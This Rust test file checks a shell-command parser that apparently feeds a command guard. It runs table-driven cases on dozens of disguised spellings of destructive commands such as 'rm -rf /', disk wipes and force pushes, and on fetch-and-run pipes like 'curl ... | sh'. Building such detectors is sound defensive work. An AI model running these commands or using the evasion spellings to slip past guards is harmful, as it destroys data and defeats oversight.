//! Table-driven tests of `writ::command` (parse_line / parse_argv).
//!
//! The inputs are only parsed, never executed.

use std::time::{Duration, Instant};

use writ::command::{CommandLineView, CommandView, Limits, parse_argv, parse_line};

fn parse(line: &str) -> CommandLineView {
    parse_line(line, &Limits::default())
}

fn programs(v: &CommandLineView) -> Vec<&str> {
    v.commands.iter().map(|c| c.program.as_str()).collect()
}

fn describe(v: &CommandLineView) -> String {
    let mut s = format!("dynamic={} error={:?}\n", v.dynamic, v.error);
    for c in &v.commands {
        s.push_str(&format!(
            "  {} argv={:?} flags={:?} via={:?} dyn={} dargs={} inline={:?}\n",
            c.program, c.argv, c.flags, c.via, c.dynamic, c.dynamic_args, c.inline_code
        ));
    }
    s
}

fn has_command<'a>(
    v: &'a CommandLineView,
    program: &str,
    flags: &[&str],
) -> Option<&'a CommandView> {
    v.commands
        .iter()
        .find(|c| c.program == program && flags.iter().all(|f| c.flags.iter().any(|g| g == f)))
}

fn report(failures: &[String], total: usize) {
    assert!(
        failures.is_empty(),
        "{} of {} cases failed:\n{}",
        failures.len(),
        total,
        failures.join("\n")
    );
}

// ---------------------------------------------------------------------------
// 1. Evasion spellings of destructive commands: (line, program, required flags)
// ---------------------------------------------------------------------------

const EVASIONS: &[(&str, &str, &[&str])] = &[
    ("rm -rf /", "rm", &["r", "f"]),
    ("rm -fr /", "rm", &["r", "f"]),
    ("rm -r -f /", "rm", &["r", "f"]),
    ("rm --recursive --force /", "rm", &["recursive", "force"]),
    ("rm / -rf", "rm", &["r", "f"]),
    (r"r\m -rf /", "rm", &["r", "f"]),
    (r"\rm -rf /", "rm", &["r", "f"]),
    ("'rm' -rf /", "rm", &["r", "f"]),
    ("\"rm\" -rf /", "rm", &["r", "f"]),
    ("r\"\"m -rf /", "rm", &["r", "f"]),
    ("r''m -rf /", "rm", &["r", "f"]),
    ("'r'\"m\" -rf /", "rm", &["r", "f"]),
    ("rm '-rf' /", "rm", &["r", "f"]),
    ("rm \"-r\"f /", "rm", &["r", "f"]),
    (r"rm -\r\f /", "rm", &["r", "f"]),
    (r"$'\x72m' -rf /", "rm", &["r", "f"]),
    (r"$'\162\155' -rf /", "rm", &["r", "f"]),
    (r"$'\u0072\u006d' -rf /", "rm", &["r", "f"]),
    (r"$'\U00000072m' -rf /", "rm", &["r", "f"]),
    (r"rm $'-\x72f' /", "rm", &["r", "f"]),
    ("$\"rm\" -rf /", "rm", &["r", "f"]),
    ("{rm,-rf,/}", "rm", &["r", "f"]),
    ("{rm,-r,-f} /", "rm", &["r", "f"]),
    ("r{m,} -rf /", "rm", &["r", "f"]),
    ("{r,}m -rf /", "rm", &["r", "f"]),
    ("rm -{r,f} /", "rm", &["r", "f"]),
    ("rm -{rf,x} /", "rm", &["r", "f"]),
    ("/bin/rm -rf /", "rm", &["r", "f"]),
    ("/usr/bin/../bin/rm -rf /", "rm", &["r", "f"]),
    ("./rm -rf /", "rm", &["r", "f"]),
    ("//bin///rm -rf /", "rm", &["r", "f"]),
    ("/bin/./rm -rf /", "rm", &["r", "f"]),
    ("~/bin/rm -rf /", "rm", &["r", "f"]),
    ("FOO=1 rm -rf /", "rm", &["r", "f"]),
    ("A=1 B=2 rm -rf /", "rm", &["r", "f"]),
    ("sudo rm -rf /", "rm", &["r", "f"]),
    ("sudo -u root -E rm -rf /", "rm", &["r", "f"]),
    ("sudo -- rm -rf /", "rm", &["r", "f"]),
    ("sudo -uroot HOME=/ rm -rf /", "rm", &["r", "f"]),
    ("doas rm -rf /", "rm", &["r", "f"]),
    ("env rm -rf /", "rm", &["r", "f"]),
    ("env -i PATH=/bin rm -rf /", "rm", &["r", "f"]),
    ("env -u HOME rm -rf /", "rm", &["r", "f"]),
    ("env -S 'rm -rf /'", "rm", &["r", "f"]),
    ("env --split-string='rm -rf /'", "rm", &["r", "f"]),
    ("timeout 5 rm -rf /", "rm", &["r", "f"]),
    ("timeout -s KILL -k 1 5s rm -rf /", "rm", &["r", "f"]),
    ("nice -n 10 rm -rf /", "rm", &["r", "f"]),
    ("nice -10 rm -rf /", "rm", &["r", "f"]),
    ("ionice -c3 rm -rf /", "rm", &["r", "f"]),
    ("nohup rm -rf / &", "rm", &["r", "f"]),
    ("command rm -rf /", "rm", &["r", "f"]),
    ("builtin command rm -rf /", "rm", &["r", "f"]),
    ("exec rm -rf /", "rm", &["r", "f"]),
    ("exec -a foo rm -rf /", "rm", &["r", "f"]),
    ("stdbuf -oL rm -rf /", "rm", &["r", "f"]),
    ("time rm -rf /", "rm", &["r", "f"]),
    ("/usr/bin/time -v rm -rf /", "rm", &["r", "f"]),
    ("setsid rm -rf /", "rm", &["r", "f"]),
    ("busybox rm -rf /", "rm", &["r", "f"]),
    ("chroot / rm -rf /", "rm", &["r", "f"]),
    ("bash -c 'rm -rf /'", "rm", &["r", "f"]),
    ("sh -c \"rm -rf /\"", "rm", &["r", "f"]),
    ("bash -lc 'rm -rf /'", "rm", &["r", "f"]),
    ("bash -xc 'rm -rf /'", "rm", &["r", "f"]),
    ("bash -c -- 'rm -rf /'", "rm", &["r", "f"]),
    ("zsh -c 'rm -rf /'", "rm", &["r", "f"]),
    ("/bin/dash -c 'rm -rf /'", "rm", &["r", "f"]),
    ("bash -o errexit -c 'rm -rf /'", "rm", &["r", "f"]),
    ("eval 'rm -rf /'", "rm", &["r", "f"]),
    ("eval rm -rf /", "rm", &["r", "f"]),
    ("echo $(rm -rf /)", "rm", &["r", "f"]),
    ("echo `rm -rf /`", "rm", &["r", "f"]),
    ("x=$(rm -rf /)", "rm", &["r", "f"]),
    ("echo \"$(rm -rf /)\"", "rm", &["r", "f"]),
    ("echo ${x:-$(rm -rf /)}", "rm", &["r", "f"]),
    ("echo $(echo $(rm -rf /))", "rm", &["r", "f"]),
    ("cat <(rm -rf /)", "rm", &["r", "f"]),
    ("tee >(rm -rf /)", "rm", &["r", "f"]),
    ("find / -exec rm -rf {} \\;", "rm", &["r", "f"]),
    ("find / -execdir rm -rf {} +", "rm", &["r", "f"]),
    ("find / -ok rm -rf {} ';'", "rm", &["r", "f"]),
    ("echo / | xargs rm -rf", "rm", &["r", "f"]),
    ("ls | xargs -n1 -I{} rm -rf {}", "rm", &["r", "f"]),
    ("bash <<< 'rm -rf /'", "rm", &["r", "f"]),
    ("sh <<'X'\nrm -rf /\nX", "rm", &["r", "f"]),
    ("sh <<X\nrm -rf /\nX", "rm", &["r", "f"]),
    ("cat <<X\n$(rm -rf /)\nX", "rm", &["r", "f"]),
    ("sudo bash -c 'eval \"rm -rf /\"'", "rm", &["r", "f"]),
    ("watch rm -rf /", "rm", &["r", "f"]),
    ("watch -n 1 'rm -rf /'", "rm", &["r", "f"]),
    ("su -c 'rm -rf /' root", "rm", &["r", "f"]),
    ("flock /tmp/l -c 'rm -rf /'", "rm", &["r", "f"]),
    ("flock /tmp/l rm -rf /", "rm", &["r", "f"]),
    ("trap 'rm -rf /' EXIT", "rm", &["r", "f"]),
    ("true && rm -rf /", "rm", &["r", "f"]),
    ("false || rm -rf /", "rm", &["r", "f"]),
    ("(rm -rf /)", "rm", &["r", "f"]),
    ("{ rm -rf /; }", "rm", &["r", "f"]),
    ("if rm -rf /; then :; fi", "rm", &["r", "f"]),
    ("while rm -rf /; do :; done", "rm", &["r", "f"]),
    ("until false; do rm -rf /; done", "rm", &["r", "f"]),
    ("for i in 1; do rm -rf /; done", "rm", &["r", "f"]),
    ("case x in *) rm -rf /;; esac", "rm", &["r", "f"]),
    ("f() { rm -rf /; }; f", "rm", &["r", "f"]),
    ("echo hi\nrm -rf /", "rm", &["r", "f"]),
    ("rm -rf /\r\n", "rm", &["r", "f"]),
    ("! rm -rf /", "rm", &["r", "f"]),
    ("( (rm -rf /) )", "rm", &["r", "f"]),
    ("( ( rm -rf / ) )", "rm", &["r", "f"]),
    ("coproc rm -rf /", "rm", &["r", "f"]),
    ("[[ $(rm -rf /) ]]", "rm", &["r", "f"]),
    ("(( $(rm -rf /) ))", "rm", &["r", "f"]),
    ("echo > $(rm -rf /)", "rm", &["r", "f"]),
    ("dd if=/dev/zero of=/dev/sda", "dd", &[]),
    ("sudo dd if=/dev/zero of=/dev/sda bs=1M", "dd", &[]),
    ("mkfs.ext4 /dev/sda1", "mkfs.ext4", &[]),
    ("sudo /sbin/mkfs -t ext4 /dev/sda", "mkfs", &["t"]),
    ("git push --force origin main", "git", &["force"]),
    ("git push -f", "git", &["f"]),
    ("git push --force-with-lease", "git", &["force-with-lease"]),
    ("'git' push \"--force\"", "git", &["force"]),
    ("bash -c 'git push --force'", "git", &["force"]),
    ("chmod -R 777 /", "chmod", &["R"]),
    ("sudo chmod --recursive 777 /", "chmod", &["recursive"]),
    ("find / -exec chmod -R 777 {} +", "chmod", &["R"]),
    ("shred -u -z /dev/sda", "shred", &["u", "z"]),
];

#[test]
fn evasions_resolve_to_the_real_program() {
    let mut failures = Vec::new();
    for (line, program, flags) in EVASIONS {
        let v = parse(line);
        if v.error.is_some() || has_command(&v, program, flags).is_none() {
            failures.push(format!("{line:?}: want {program} {flags:?}\n{}", describe(&v)));
        }
    }
    report(&failures, EVASIONS.len());
}

// ---------------------------------------------------------------------------
// 2. Structure: exact list of programs, in order.
// ---------------------------------------------------------------------------

const STRUCTURE: &[(&str, &[&str])] = &[
    ("ls", &["ls"]),
    ("ls; pwd", &["ls", "pwd"]),
    ("ls && pwd || id", &["ls", "pwd", "id"]),
    ("ls & pwd", &["ls", "pwd"]),
    ("ls\npwd\n\nid", &["ls", "pwd", "id"]),
    ("a | b | c", &["a", "b", "c"]),
    ("(a; b) | { c; d; }", &["a", "b", "c", "d"]),
    ("if a; then b; elif c; then d; else e; fi", &["a", "b", "c", "d", "e"]),
    ("while a; do b; done", &["a", "b"]),
    ("until a; do b; done", &["a", "b"]),
    ("for x in $(a); do b; done", &["a", "b"]),
    ("for ((i=0; i<3; i++)); do b; done", &["b"]),
    ("case $(a) in x) b;; y|z) c;; esac", &["a", "b", "c"]),
    ("f() { a; }", &["a"]),
    ("function g { a | b; }", &["a", "b"]),
    ("echo $(a) `b`", &["a", "b", "echo"]),
    ("x=$(a) y=`b` c", &["a", "b", "c"]),
    ("x=1", &[]),
    ("> out", &[]),
    ("a > $(b)", &["b", "a"]),
    ("a <(b) >(c)", &["b", "c", "a"]),
    ("a 2>&1 | b", &["a", "b"]),
    ("cat <<X\nhello $(a)\nX", &["a", "cat"]),
    ("cat <<'X'\nhello $(a)\nX", &["cat"]),
    ("a <<< $(b)", &["b", "a"]),
    ("echo \"`a`\"", &["a", "echo"]),
    ("echo 'rm -rf /'", &["echo"]),
    ("echo \"rm -rf /\"", &["echo"]),
    ("# rm -rf /", &[]),
    ("ls # rm -rf /", &["ls"]),
    ("echo \\$\\(rm\\)", &["echo"]),
    ("echo '$(rm)'", &["echo"]),
    ("command -v rm", &["command"]),
    ("sudo -l rm", &["sudo"]),
    ("ionice -p 123", &["ionice"]),
    ("time a | b", &["a", "b"]),
    ("sudo env FOO=1 a", &["sudo", "env", "a"]),
    ("find . -exec a {} \\; -exec b {} +", &["find", "a", "b"]),
    ("xargs", &["xargs"]),
    ("{a,b}c d", &["ac"]),
    ("echo {a..c}", &["echo"]),
    ("[[ -f x ]] && a", &["a"]),
    ("bash -c 'a; b' && c", &["bash", "a", "b", "c"]),
    ("bash -c 'bash -c \"a\"'", &["bash", "bash", "a"]),
    ("python3 -c 'print(1)' | a", &["python3", "a"]),
];

#[test]
fn structure_lists_every_command() {
    let mut failures = Vec::new();
    for (line, want) in STRUCTURE {
        let v = parse(line);
        if v.error.is_some() || programs(&v) != *want {
            failures.push(format!("{line:?}: want {want:?}\n{}", describe(&v)));
        }
    }
    report(&failures, STRUCTURE.len());
}

// ---------------------------------------------------------------------------
// 3. Normalization: (line, argv, flags, operands) of the first command.
// ---------------------------------------------------------------------------

type Norm =
    (&'static str, &'static [&'static str], &'static [&'static str], &'static [&'static str]);

const NORMALIZATION: &[Norm] = &[
    ("rm -rf /", &["rm", "-r", "-f", "/"], &["r", "f"], &["/"]),
    ("rm -- -rf", &["rm", "--", "-rf"], &[], &["-rf"]),
    ("rm a -f b", &["rm", "a", "-f", "b"], &["f"], &["a", "b"]),
    ("ls --color=auto -la", &["ls", "--color=auto", "-l", "-a"], &["color", "l", "a"], &[]),
    ("head -20 f", &["head", "-20", "f"], &["20"], &["f"]),
    ("cat -", &["cat", "-"], &[], &["-"]),
    ("tar -xzf a.tgz", &["tar", "-x", "-z", "-f", "a.tgz"], &["x", "z", "f"], &["a.tgz"]),
    ("git commit -am msg", &["git", "commit", "-a", "-m", "msg"], &["a", "m"], &["commit", "msg"]),
    (
        "find . -name '*.rs' -delete",
        &["find", ".", "-name", "*.rs", "-delete"],
        &["name", "delete"],
        &[".", "*.rs"],
    ),
    ("/usr/bin/../bin/rm x", &["/usr/bin/../bin/rm", "x"], &[], &["x"]),
    ("echo $'a\\tb'", &["echo", "a\tb"], &[], &["a\tb"]),
    ("echo $'a\\0b'c", &["echo", "ac"], &[], &["ac"]),
    ("echo $'\\e[0m'", &["echo", "\u{1b}[0m"], &[], &["\u{1b}[0m"]),
    ("echo $'\\cA'", &["echo", "\u{1}"], &[], &["\u{1}"]),
    ("echo \"a\\\"b\\$c\\d\"", &["echo", "a\"b$c\\d"], &[], &["a\"b$c\\d"]),
    ("echo ''", &["echo", ""], &[], &[""]),
    ("echo {a,}", &["echo", "a"], &[], &["a"]),
    ("echo {1..3}", &["echo", "1", "2", "3"], &[], &["1", "2", "3"]),
    ("echo {01..03}", &["echo", "01", "02", "03"], &[], &["01", "02", "03"]),
    ("echo {a..e..2}", &["echo", "a", "c", "e"], &[], &["a", "c", "e"]),
    ("echo {3..1}", &["echo", "3", "2", "1"], &[], &["3", "2", "1"]),
    ("echo a{b,c{d,e}}f", &["echo", "abf", "acdf", "acef"], &[], &["abf", "acdf", "acef"]),
    ("echo {{a,b}}", &["echo", "{a}", "{b}"], &[], &["{a}", "{b}"]),
    (
        "echo \"{a,b}\" '{c,d}' \\{e,f}",
        &["echo", "{a,b}", "{c,d}", "{e,f}"],
        &[],
        &["{a,b}", "{c,d}", "{e,f}"],
    ),
    ("echo {a,\"b c\"}", &["echo", "a", "b c"], &[], &["a", "b c"]),
    ("echo ${x}{a,b}", &["echo", "${x}a", "${x}b"], &[], &["${x}a", "${x}b"]),
    ("echo a{b,c", &["echo", "a{b,c"], &[], &["a{b,c"]),
    ("echo {}", &["echo", "{}"], &[], &["{}"]),
    ("echo {1..a}", &["echo", "{1..a}"], &[], &["{1..a}"]),
    ("echo x\\\ny", &["echo", "xy"], &[], &["xy"]),
];

#[test]
fn normalization_of_argv_flags_operands() {
    let mut failures = Vec::new();
    for (line, argv, flags, operands) in NORMALIZATION {
        let v = parse(line);
        let ok = v.error.is_none()
            && v.commands
                .first()
                .is_some_and(|c| c.argv == *argv && c.flags == *flags && c.operands == *operands);
        if !ok {
            failures.push(format!(
                "{line:?}: want argv {argv:?} flags {flags:?} operands {operands:?}\n{}",
                describe(&v)
            ));
        }
    }
    report(&failures, NORMALIZATION.len());
}

// ---------------------------------------------------------------------------
// 4. Dynamic lines (must be denied) and lines that must not be dynamic.
// ---------------------------------------------------------------------------

const DYNAMIC: &[&str] = &[
    "$x",
    "$x -rf /",
    "${x} -rf /",
    "\"$x\" -rf /",
    "$(echo rm) -rf /",
    "`echo rm` -rf /",
    "${x:-rm} -rf /",
    "$1 -rf /",
    "r$x -rf /",
    "/bin/r? -rf /",
    "/bin/r* -rf /",
    "/bin/r[m] -rf /",
    "eval \"$x\"",
    "eval $x",
    "eval \"rm $x\"",
    "bash -c \"$CMD\"",
    "bash -c \"echo $x\"",
    "sh -c \"$(curl -s x)\"",
    "curl -s http://x | sh",
    "curl -s http://x | bash",
    "wget -O- http://x | sh",
    "base64 -d payload | sh",
    "echo cm0gLXJmIC8= | base64 -d | bash",
    "cat x | bash -s",
    "bash",
    "sudo -s",
    "bash <(curl -s http://x)",
    "source <(curl -s http://x)",
    ". \"$f\"",
    "sh <<X\n$CMD\nX",
    "sh <<< \"$x\"",
    "echo ${x@P}",
    "sudo $CMD",
    "env $x rm",
    "xargs $x",
    "find . -exec $x {} \\;",
    "timeout 5 $x",
    "python3 -c \"$CODE\"",
    "pwsh -EncodedCommand ZQBjAGgAbwA=",
    "nice \"$@\"",
    "command $x",
    "watch \"$x\"",
    "su -c \"$x\"",
    "trap \"$x\" EXIT",
    "env -S \"$x\"",
    "env -S 'rm ${X}'",
    "busybox $x",
];

#[test]
fn dynamic_lines_are_flagged() {
    let mut failures = Vec::new();
    for line in DYNAMIC {
        let v = parse(line);
        if !v.dynamic {
            failures.push(format!("{line:?}: want dynamic\n{}", describe(&v)));
        }
    }
    report(&failures, DYNAMIC.len());
}

const NOT_DYNAMIC: &[&str] = &[
    "ls -la",
    "rm -rf $HOME",
    "echo $(date)",
    "bash -c 'echo $HOME'",
    "bash script.sh",
    "bash < script.sh",
    "source ./env.sh",
    ". ~/.bashrc",
    "sh <<'X'\necho $HOME\nX",
    "git log --format='%H'",
    "echo *.rs",
    "[ -f x ]",
    "python3 -c 'print(1)'",
    "cat <<X\nplain text\nX",
];

#[test]
fn static_lines_are_not_dynamic() {
    let mut failures = Vec::new();
    for line in NOT_DYNAMIC {
        let v = parse(line);
        if v.dynamic || v.error.is_some() {
            failures.push(format!("{line:?}: want static\n{}", describe(&v)));
        }
    }
    report(&failures, NOT_DYNAMIC.len());
}

#[test]
fn dynamic_args_are_marked() {
    let cases: &[(&str, &str, bool)] = &[
        ("rm $F /", "rm", true),
        ("rm -rf /", "rm", false),
        ("echo / | xargs rm", "rm", true),
        ("echo $(date)", "echo", true),
        ("echo \"$HOME\"", "echo", true),
        ("echo '$HOME'", "echo", false),
    ];
    let mut failures = Vec::new();
    for (line, program, want) in cases {
        let v = parse(line);
        let got = v.commands.iter().find(|c| c.program == *program).map(|c| c.dynamic_args);
        if got != Some(*want) {
            failures.push(format!("{line:?}: want dynamic_args={want}\n{}", describe(&v)));
        }
    }
    report(&failures, cases.len());
}

// ---------------------------------------------------------------------------
// 5. Interpreter inline code: (line, program, language, code)
// ---------------------------------------------------------------------------

const INLINE: &[(&str, &str, &str, &str)] = &[
    ("python -c 'import os'", "python", "python", "import os"),
    ("python3 -c 'print(1)'", "python3", "python", "print(1)"),
    ("python3.12 -u -c 'x=1'", "python3.12", "python", "x=1"),
    ("python3 -Wignore -c 'x'", "python3", "python", "x"),
    ("python3 -c'print(2)'", "python3", "python", "print(2)"),
    ("node -e 'require(\"fs\")'", "node", "node", "require(\"fs\")"),
    ("node --eval 'x()'", "node", "node", "x()"),
    ("node --eval='y()'", "node", "node", "y()"),
    ("node -p '1+1'", "node", "node", "1+1"),
    ("perl -e 'unlink \"x\"'", "perl", "perl", "unlink \"x\""),
    ("perl -E 'say 1'", "perl", "perl", "say 1"),
    ("perl -lne 'print' f", "perl", "perl", "print"),
    ("perl -e 'a' -e 'b'", "perl", "perl", "a\nb"),
    ("ruby -e 'puts 1'", "ruby", "ruby", "puts 1"),
    ("php -r 'echo 1;'", "php", "php", "echo 1;"),
    ("osascript -e 'tell app \"Finder\"'", "osascript", "applescript", "tell app \"Finder\""),
    ("pwsh -c 'Get-ChildItem'", "pwsh", "powershell", "Get-ChildItem"),
    ("powershell -Command Remove-Item x", "powershell", "powershell", "Remove-Item\nx"),
    ("lua -e 'os.exit()'", "lua", "lua", "os.exit()"),
    ("awk '{print $1}' f", "awk", "awk", "{print $1}"),
    ("awk -F: 'BEGIN{system(\"id\")}'", "awk", "awk", "BEGIN{system(\"id\")}"),
    ("sudo python3 -c 'x'", "python3", "python", "x"),
    ("bash -c \"python3 -c 'y'\"", "python3", "python", "y"),
];

#[test]
fn interpreter_inline_code_is_reported() {
    let mut failures = Vec::new();
    for (line, program, language, code) in INLINE {
        let v = parse(line);
        let ok = v.error.is_none()
            && v.commands.iter().any(|c| {
                c.program == *program
                    && c.inline_code
                        .as_ref()
                        .is_some_and(|i| i.language == *language && i.code == *code)
            });
        if !ok {
            failures.push(format!("{line:?}: want {language} {code:?}\n{}", describe(&v)));
        }
    }
    report(&failures, INLINE.len());
}

#[test]
fn scripts_and_modules_are_not_inline_code() {
    for line in
        ["python3 script.py -c x", "python3 -m http.server", "node app.js -e x", "perl x.pl"]
    {
        let v = parse(line);
        assert!(v.commands.iter().all(|c| c.inline_code.is_none()), "{line:?}\n{}", describe(&v));
    }
}

// ---------------------------------------------------------------------------
// 6. `via`: (line, program, via)
// ---------------------------------------------------------------------------

const VIA: &[(&str, &str, &[&str])] = &[
    ("rm x", "rm", &[]),
    ("sudo rm x", "rm", &["sudo"]),
    ("sudo bash -c 'rm x'", "rm", &["sudo", "bash -c"]),
    ("env A=1 nice rm x", "rm", &["env", "nice"]),
    ("find . -exec rm {} +", "rm", &["find -exec"]),
    ("find . -execdir rm {} +", "rm", &["find -execdir"]),
    ("xargs rm", "rm", &["xargs"]),
    ("eval 'rm x'", "rm", &["eval"]),
    ("sh <<< 'rm x'", "rm", &["sh <<<"]),
    ("sh <<'E'\nrm x\nE", "rm", &["sh <<"]),
    ("watch rm x", "rm", &["watch"]),
    ("sudo -i <<< 'rm x'", "rm", &["sudo", "sh <<<"]),
    ("echo $(sudo rm x)", "rm", &["sudo"]),
    ("bash -c 'sh -c \"rm x\"'", "rm", &["bash -c", "sh -c"]),
];

#[test]
fn via_records_wrappers_and_shells() {
    let mut failures = Vec::new();
    for (line, program, via) in VIA {
        let v = parse(line);
        let ok =
            v.error.is_none() && v.commands.iter().any(|c| c.program == *program && c.via == *via);
        if !ok {
            failures.push(format!("{line:?}: want {program} via {via:?}\n{}", describe(&v)));
        }
    }
    report(&failures, VIA.len());
}

#[test]
fn wrappers_are_listed_themselves() {
    let v = parse("sudo -u root timeout 5 rm -rf /");
    assert_eq!(programs(&v), ["sudo", "timeout", "rm"], "{}", describe(&v));
    let v = parse("command -v rm");
    assert_eq!(programs(&v), ["command"], "{}", describe(&v));
}

// ---------------------------------------------------------------------------
// 7. Errors and adversarial inputs: error set, dynamic, fast.
// ---------------------------------------------------------------------------

fn assert_rejected_quickly(name: &str, line: &str, limits: &Limits) {
    let start = Instant::now();
    let v = parse_line(line, limits);
    let took = start.elapsed();
    assert!(v.error.is_some(), "{name}: want error\n{}", describe(&v));
    assert!(v.dynamic, "{name}: error must imply dynamic");
    assert!(took < Duration::from_secs(5), "{name}: took {took:?}");
}

const SYNTAX_ERRORS: &[&str] = &[
    "echo 'unterminated",
    "echo \"unterminated",
    "echo $(unterminated",
    "if true; then",
    "(a",
    "a |",
    "a && && b",
    "case x in",
    "echo `unterminated",
    "bash -c 'echo \"x'",
    "eval 'if'",
    "printf 'x' \0",
    "cat <<''",
    "cat <<\"\"",
];

#[test]
fn syntax_errors_fail_closed() {
    for line in SYNTAX_ERRORS {
        assert_rejected_quickly(line, line, &Limits::default());
    }
}

#[test]
fn carriage_return_here_tag_does_not_hang() {
    let l = Limits::default();
    assert_rejected_quickly("<<\\r", "<<\r ", &l);
    assert_rejected_quickly("cat <<\\r", "cat <<\r ", &l);
    assert_rejected_quickly("cat <<-\\r", "cat <<-\r x", &l);
    assert_rejected_quickly("cat <<\\x0c", "cat <<\u{c} ", &l);
    assert_rejected_quickly("bash -c with <<\\r", "bash -c $'cat <<\\r '", &l);
}

#[test]
fn crlf_is_normalized() {
    let v = parse("rm -rf /\r\necho ok\r\n");
    assert!(v.error.is_none(), "{}", describe(&v));
    assert_eq!(programs(&v), ["rm", "echo"]);
    assert_eq!(v.commands[0].argv, ["rm", "-r", "-f", "/"]);
}

#[test]
fn ten_thousand_nested_parentheses() {
    let line = format!("{}a{}", "(".repeat(10_000), ")".repeat(10_000));
    assert_rejected_quickly("parens", &line, &Limits::default());
}

#[test]
fn five_thousand_nested_brace_groups() {
    let line = format!("{}a; {}", "{ ".repeat(5_000), "}; ".repeat(5_000));
    assert_rejected_quickly("groups", &line, &Limits::default());
}

#[test]
fn deep_keyword_and_substitution_nesting() {
    let l = Limits::default();
    let ifs = format!("{}b; {}", "if a; then ".repeat(3_000), "fi; ".repeat(3_000));
    assert_rejected_quickly("ifs", &ifs, &l);
    let subs = format!("echo {}a{}", "$(".repeat(3_000), ")".repeat(3_000));
    assert_rejected_quickly("subs", &subs, &l);
    let params = format!("echo {}x{}", "${a:-".repeat(3_000), "}".repeat(3_000));
    assert_rejected_quickly("params", &params, &l);
    let dq = format!("echo {}a{}", "\"$(".repeat(2_000), ")\"".repeat(2_000));
    assert_rejected_quickly("dq", &dq, &l);
    let cases = format!("{}b;; {}", "case a in x) ".repeat(2_000), "esac;; ".repeat(2_000));
    assert_rejected_quickly("cases", &cases, &l);
    // keyword closers used as plain arguments do not hide the nesting
    let tricky = format!("{}b; {}", "if a; then echo fi; ".repeat(2_000), "fi; ".repeat(2_000));
    assert_rejected_quickly("tricky", &tricky, &l);
}

#[test]
fn moderate_nesting_is_accepted() {
    // Subshells up to the parenthesis bound (`Limits::max_paren_depth`, 12): brush-parser is
    // exponential in their depth, so deeper ones are refused.
    let line = format!("{}rm -rf /{}", "( ".repeat(12), " )".repeat(12));
    let v = parse(&line);
    assert!(v.error.is_none(), "{}", describe(&v));
    assert!(has_command(&v, "rm", &["r", "f"]).is_some());
    let line = format!("{}rm -rf /; {}", "{ ".repeat(50), "}; ".repeat(50));
    let v = parse(&line);
    assert!(v.error.is_none(), "{}", describe(&v));
}

#[test]
fn one_megabyte_line() {
    let line = format!("echo {}", "a".repeat(1 << 20));
    assert_rejected_quickly("1MB", &line, &Limits::default());
    let v = parse_argv(&["echo".to_owned(), "a".repeat(1 << 20)], &Limits::default());
    assert!(v.error.is_some() && v.dynamic);
}

#[test]
fn unbalanced_braces_are_fast() {
    let start = Instant::now();
    let line = format!("echo {}", "{".repeat(60));
    let v = parse(&line);
    assert!(v.error.is_none(), "{}", describe(&v));
    assert_eq!(v.commands[0].argv[1], "{".repeat(60));
    let line = format!("echo {}a,b", "{".repeat(60));
    let v = parse(&line);
    assert!(v.error.is_none(), "{}", describe(&v));
    let line = format!("echo {}{}", "{a,".repeat(60), "x");
    let v = parse(&line);
    assert!(v.error.is_none(), "{}", describe(&v));
    let line = format!("echo {}", "{,{".repeat(5_000));
    let _ = parse(&line);
    assert!(start.elapsed() < Duration::from_secs(5));
}

#[test]
fn brace_expansion_is_bounded() {
    let l = Limits::default();
    assert_rejected_quickly("product", &format!("echo {}", "{a,b}".repeat(60)), &l);
    assert_rejected_quickly("range", "echo {1..100000000}", &l);
    assert_rejected_quickly("huge range", "echo {-9223372036854775807..9223372036854775807}", &l);
    let v = parse("echo {99999999999999999999..1}");
    assert!(v.error.is_none(), "overflowing numbers stay literal\n{}", describe(&v));
    let nested = format!("echo {}x{}", "{a,".repeat(200), "}".repeat(200));
    assert_rejected_quickly("nested", &nested, &l);
    let v = parse("echo {a,b}{c,d}{e,f}");
    assert_eq!(v.commands[0].argv.len(), 9);
}

/// `bash -c "<code>"` with double-quote escaping (size doubles per level).
fn bash_c(code: &str) -> String {
    let escaped = code.replace('\\', "\\\\").replace('"', "\\\"");
    format!("bash -c \"{escaped}\"")
}

#[test]
fn deeply_nested_bash_c() {
    let mut code = "rm -rf /".to_owned();
    for _ in 0..5 {
        code = bash_c(&code);
    }
    let v = parse(&code);
    assert!(v.error.is_none(), "{}", describe(&v));
    assert_eq!(v.commands.last().map(|c| c.via.len()), Some(5));
    assert!(has_command(&v, "rm", &["r", "f"]).is_some());
    // over the recursion limit
    let limits = Limits { max_recursion_depth: 8, ..Limits::default() };
    let mut code = "rm -rf /".to_owned();
    for _ in 0..12 {
        code = bash_c(&code);
    }
    let start = Instant::now();
    let v = parse_line(&code, &limits);
    assert!(v.error.is_some() && v.dynamic, "{}", describe(&v));
    // with default limits, 20 levels is rejected (recursion or size) quickly
    for _ in 0..8 {
        code = bash_c(&code);
    }
    let v = parse(&code);
    assert!(v.error.is_some() && v.dynamic);
    assert!(start.elapsed() < Duration::from_secs(10));
}

#[test]
fn deeply_nested_eval_hits_recursion_limit() {
    let line = format!("{}rm -rf /", "eval ".repeat(40));
    assert_rejected_quickly("eval chain", &line, &Limits::default());
    let line = format!("{}rm -rf /", "eval ".repeat(5));
    let v = parse(&line);
    assert!(v.error.is_none() && has_command(&v, "rm", &["r", "f"]).is_some());
    let line = format!("{}rm -rf /", "env ".repeat(40));
    assert_rejected_quickly("env chain", &line, &Limits::default());
}

#[test]
fn wrapper_chains_are_bounded() {
    let line = format!("{}rm -rf /", "nice ".repeat(5_000));
    assert_rejected_quickly("nice chain", &line, &Limits::default());
}

#[test]
fn too_many_commands() {
    let line = "a;".repeat(2_000);
    assert_rejected_quickly("many", &line, &Limits::default());
}

#[test]
fn small_limits_are_honoured() {
    let limits = Limits { max_line_bytes: 10, ..Limits::default() };
    assert_rejected_quickly("line", "echo 12345678901", &limits);
    let limits = Limits { max_nesting_depth: 2, ..Limits::default() };
    assert_rejected_quickly("depth", "(((a)))", &limits);
    let limits = Limits { max_recursion_depth: 1, ..Limits::default() };
    assert_rejected_quickly("recursion", "bash -c 'bash -c \"a\"'", &limits);
    let limits = Limits { max_brace_results: 3, ..Limits::default() };
    assert_rejected_quickly("braces", "echo {a,b}{c,d}", &limits);
    let limits = Limits { max_commands: 2, ..Limits::default() };
    assert_rejected_quickly("commands", "a; b; c", &limits);
}

#[test]
fn runs_on_callers_thread_when_stack_bytes_is_zero() {
    let limits = Limits { stack_bytes: 0, ..Limits::default() };
    let v = parse_line("sudo rm -rf /", &limits);
    assert!(has_command(&v, "rm", &["r", "f"]).is_some(), "{}", describe(&v));
}

#[test]
fn hostile_numbers_do_not_panic() {
    for line in [
        "echo ~99999999999999999999999",
